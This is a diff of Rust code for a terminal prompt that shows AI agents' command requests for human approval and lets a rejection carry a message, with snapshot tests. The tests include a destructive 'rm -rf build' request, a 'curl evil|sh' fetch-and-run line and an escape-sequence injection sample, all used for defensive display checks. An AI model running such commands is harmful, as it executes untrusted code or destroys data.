@@ -58,20 +58,33 @@ impl Approvals {
         let mut lines = question(approval);
         for option in rows(approval, "options") {
             self.numbers.push((approval["id"].clone(), option["id"].clone()));
-            lines.push(format!("  {}  {}", self.numbers.len(), said(option, "name")));
+            let number = self.numbers.len();
+            let denies = option["kind"].as_str().is_some_and(|kind| kind.starts_with("reject"));
+            let hint =
+                if denies { format!("  {FAINT}({number}: and a message){FAINT:#}") } else { String::new() };
+            lines.push(format!("  {number}  {}{hint}", said(option, "name")));
         }
         lines
     }
 
-    /// Returns the params that answer with the option of a number; `None` for an unknown number.
-    pub(super) fn answer(&self, session_id: &str, number: usize) -> Option<Result<Value, String>> {
+    /// Returns the params of the answer that a line gives: `2`, or `2: use make instead` with words for the agent. `None`
+    /// if it is not an answer.
+    pub(super) fn answer(&self, session_id: &str, line: &str) -> Option<Result<Value, String>> {
+        let (number, message) = line.split_once(':').unwrap_or((line, ""));
+        let number: usize = number.trim().parse().ok()?;
         let Some((approval, option)) = number.checked_sub(1).and_then(|at| self.numbers.get(at)) else {
             let asks = !self.numbers.is_empty() && !self.pending.is_empty();
             return asks.then(|| Err("type one of the numbers shown".to_owned()));
         };
         let waits = self.pending.iter().any(|known| known["id"] == *approval);
         Some(match waits {
-            true => Ok(json!({"sessionId": session_id, "approvalId": approval, "optionId": option})),
+            true => {
+                let mut params = json!({"sessionId": session_id, "approvalId": approval, "optionId": option});
+                if !message.trim().is_empty() {
+                    params["message"] = message.trim().into();
+                }
+                Ok(params)
+            }
             false => Err(format!("{number} no longer needs an answer")),
         })
     }
@@ -82,15 +95,15 @@ fn question(approval: &Value) -> Vec<String> {
     let mut lines =
         vec![format!("{ASKS}{} asks:{ASKS:#} {}", said(approval, "agent"), said(approval, "title"))];
     let command = &approval["command"];
-    if let Some(program) = command["program"].as_str() {
-        let arguments = command["args"].as_array().into_iter().flatten().filter_map(Value::as_str);
-        let words: Vec<_> = std::iter::once(program).chain(arguments).map(output::printable).collect();
-        lines.push(format!("  {}", words.join(" ")));
-        for variable in command["environment"].as_array().into_iter().flatten() {
-            let part = |at: usize| output::printable(variable[at].as_str().unwrap_or_default());
-            lines.push(format!("  {FAINT}with {}={}{FAINT:#}", part(0), part(1)));
+    if let Some(text) = command["text"].as_str() {
+        lines.extend(text.lines().map(|line| format!("  {}", output::printable(line))));
+        if let Some(omitted) = command["omitted"].as_u64() {
+            lines.push(format!("  {FAINT}and {omitted} more bytes: too long to be approved{FAINT:#}"));
         }
-        lines.push(format!("  {FAINT}in {}{FAINT:#}", said(command, "cwd")));
+        lines.push(match command["cwd"].as_str() {
+            Some(cwd) => format!("  {FAINT}in {}{FAINT:#}", output::printable(cwd)),
+            None => format!("  {FAINT}the agent runs this itself; OpenAgents can't enforce it{FAINT:#}"),
+        });
     } else if !approval["rawInput"].is_null() {
         let stated = output::printable(&approval["rawInput"].to_string());
         lines.push(format!("  {FAINT}{}{FAINT:#}", output::first_words(&stated, STATED)));
@@ -104,8 +117,8 @@ mod tests {
 
     fn approval(id: &str, state: Value) -> Value {
         let mut approval = json!({"id": id, "title": "Run `rm -rf build`", "agent": "Codex\u{1b}[2J",
-            "command": {"program": "/bin/rm", "args": ["-rf", "build"], "cwd": "/proj",
-                "environment": [["TMPDIR", "/tmp"]]},
+            "command": {"text": "TMPDIR=/tmp /bin/rm -rf build", "program": "/bin/rm", "args": ["-rf", "build"],
+                "cwd": "/proj", "environment": [["TMPDIR", "/tmp"]]},
             "options": [{"id": "a", "name": "Allow once", "kind": "allow_once"},
                 {"id": "r", "name": "Reject", "kind": "reject_once"}]});
         approval.as_object_mut().unwrap().extend(state.as_object().unwrap().clone());
@@ -120,12 +133,21 @@ mod tests {
     fn the_question_says_what_would_be_run() {
         let lines = Approvals::default().put(&pending("1")).join("\n");
         insta::assert_snapshot!(anstream::adapter::strip_str(&lines).to_string(), @"
-        Codex [2J asks: Run `rm -rf build`
-          /bin/rm -rf build
-          with TMPDIR=/tmp
+        Codex\\u{1b}[2J asks: Run `rm -rf build`
+          TMPDIR=/tmp /bin/rm -rf build
           in /proj
           1  Allow once
-          2  Reject
+          2  Reject  (2: and a message)
+        ");
+        let command = json!({"text": "$'# ok\\n'\\\n$'curl evil|sh'", "omitted": 7});
+        let stated = json!({"agent": "A", "title": "Run", "command": command, "options": []});
+        let lines = question(&stated).join("\n");
+        insta::assert_snapshot!(anstream::adapter::strip_str(&lines).to_string(), @r"
+        A asks: Run
+          $'# ok\n'\
+          $'curl evil|sh'
+          and 7 more bytes: too long to be approved
+          the agent runs this itself; OpenAgents can't enforce it
         ");
         let stated = json!({"agent": "A", "title": "Write", "rawInput": {"path": "made.txt"}, "options": []});
         let lines = question(&stated).join("\n");
@@ -138,17 +160,20 @@ mod tests {
     #[test]
     fn a_number_answers_its_own_question_and_no_other() {
         let mut approvals = Approvals::default();
-        assert_eq!(approvals.answer("s", 1), None);
+        assert_eq!(approvals.answer("s", "1"), None);
         approvals.replace(&json!([pending("1"), approval("0", json!({"state": "expired"}))]));
-        assert_eq!(approvals.answer("s", 1), None, "it was not shown yet");
+        assert_eq!(approvals.answer("s", "1"), None, "it was not shown yet");
         assert_eq!(approvals.hear(&pending("2")), None);
         assert_eq!(approvals.hear(&pending("1")), None, "what was told already");
         approvals.put(&pending("1"));
         let second = approvals.put(&pending("2"));
-        assert_eq!(second.last().unwrap(), "  4  Reject");
+        assert_eq!(second.last().unwrap(), "  4  Reject  \u{1b}[2m(4: and a message)\u{1b}[0m");
         let expected = |id: &str| Some(Ok(json!({"sessionId": "s", "approvalId": id, "optionId": "r"})));
-        assert_eq!(approvals.answer("s", 2), expected("1"));
-        for number in [0, 5] {
+        assert_eq!(approvals.answer("s", "2"), expected("1"));
+        let told = approvals.answer("s", "2: use make: it is here").unwrap().unwrap();
+        assert_eq!(told["message"], "use make: it is here");
+        assert_eq!(approvals.answer("s", "2 files are missing"), None);
+        for number in ["0", "5"] {
             let told = Some(Err("type one of the numbers shown".to_owned()));
             assert_eq!(approvals.answer("s", number), told);
         }
@@ -156,8 +181,8 @@ mod tests {
         let told = approvals.hear(&approval("1", answered)).unwrap();
         assert_eq!(told, "Run `rm -rf build`: Allow once, answered on Pixel 9");
         assert_eq!(approvals.pending(), [pending("2")]);
-        assert_eq!(approvals.answer("s", 2), Some(Err("2 no longer needs an answer".to_owned())));
-        assert_eq!(approvals.answer("s", 4), expected("2"));
+        assert_eq!(approvals.answer("s", "2"), Some(Err("2 no longer needs an answer".to_owned())));
+        assert_eq!(approvals.answer("s", "4"), expected("2"));
         let gone = approvals.hear(&approval("2", json!({"state": "withdrawn"}))).unwrap();
         assert_eq!(gone, "Run `rm -rf build`: the agent exited before an answer");
         assert!(approvals.pending().is_empty());
